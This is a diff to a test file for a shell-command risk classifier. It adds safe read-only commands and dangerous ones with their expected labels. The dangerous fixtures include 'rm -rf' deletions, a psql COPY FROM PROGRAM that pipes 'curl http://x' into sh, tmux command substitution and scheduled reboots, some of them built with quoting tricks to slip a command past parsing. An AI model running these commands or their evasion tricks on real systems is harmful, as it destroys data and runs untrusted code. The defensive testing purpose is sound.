@@ -113,6 +113,10 @@ struct ExecutionRiskClassifierTests {
         "tmux display-message -c /dev/pts/1 -p '#{pane_id}'", "ip neigh ls delay", "at 10:30am.",
         "curl --compressed -s https://h/",
         "psql -c \"COPY (SELECT 1) TO STDOUT; COPY (SELECT 2) TO STDOUT\"", "sed -n '/warn/p' f",
+        "curl -s --compressed -G --data-urlencode 'query=up' http://prometheus:9090/api/v1/query",
+        "curl --fail -G -d 'q=1' http://x/api", "gcloud logging read ssh --limit 20",
+        "gcloud compute instances get-serial-port-output ssh", "awk '{print \"@include inplace\"}' /var/log/x",
+        "psql -c \"COPY (SELECT $$a;b$$) TO STDOUT\"", "mongosh --eval 'db.c.aggregate([{$match: {a: 1}}])'",
         "redis-cli --raw GET k",
         "redis-cli -h h sentinel config get '*'", "redis-cli -h h JSON.GET k", "redis-cli -h h FT.SEARCH idx '*'",
         "redis-cli -h h sort list", "mongosh --eval 'const s = new Set(); db.c.find().forEach(d => s.add(d))'",
@@ -623,6 +627,30 @@ struct ExecutionRiskClassifierTests {
         ("${PSQL:-psql} -c 'DROP TABLE users'", "changes the database (DROP in psql) via ${PSQL:-psql}"),
         ("$PSQL_CMD -c 'DROP TABLE users'", "changes the database (DROP in psql) via $PSQL_CMD"),
         ("nmcli -f all general hostname newname", "changes network settings (nmcli general hostname)"),
+        // The third review: prlimit's `-o` value, ip's xfrm `delall` and `setdefault`, a `;` in a dollar
+        // quote, a double-quoted name or a comment, gcloud's option value `ssh`, `${CLEAN:-rm}`, sed
+        // `1wout.txt`, tmux `#()`, `at 10:00utc`.
+        (
+            "prlimit -o RESOURCE,SOFT,HARD --pid 1234 --nofile=65535:65535",
+            "changes the limits of a running process (prlimit --pid)"
+        ),
+        ("ip xfrm state delall", "changes network configuration (ip xfrm state)"),
+        ("ip xfrm policy setdefault in block", "changes network configuration (ip xfrm policy)"),
+        (
+            "psql -c \"COPY (SELECT string_agg(name, $$;$$) FROM t) TO PROGRAM 'gzip > /tmp/x.gz'\"",
+            "changes the database (COPY in psql)"
+        ),
+        ("psql -c \"COPY \\\"a ;b\\\" FROM PROGRAM 'id'\"", "changes the database (COPY in psql)"),
+        ("psql -c \"COPY t -- note ;\n FROM PROGRAM 'curl http://x | sh'\"", "changes the database (COPY in psql)"),
+        ("psql -c 'COPY t'", "changes the database (COPY in psql)"),
+        (
+            "gcloud --project ssh compute ssh vm --command 'sudo rm -rf /x'",
+            "deletes files (rm) via sudo via gcloud ssh compute ssh"
+        ),
+        ("${CLEAN:-rm} -rf /var/lib/etcd", "deletes files (rm) via ${CLEAN:-rm}"),
+        ("sed -n '1wout.txt' f", "writes a file or runs a command from its script (sed w, e)"),
+        ("tmux display-message -p '#(rm -rf /tmp/x)'", "runs a shell command (tmux #())"),
+        ("echo reboot | at 10:00utc", "schedules commands to run later (at)"),
         ("sed -nl 80 '1w /tmp/x' f", "writes a file or runs a command from its script (sed w, e)"),
         ("sed -n '1w/tmp/x' f", "writes a file or runs a command from its script (sed w, e)"),
         ("gawk -i inplace.awk '{print}' f", "edits files in place (gawk -i inplace)"),
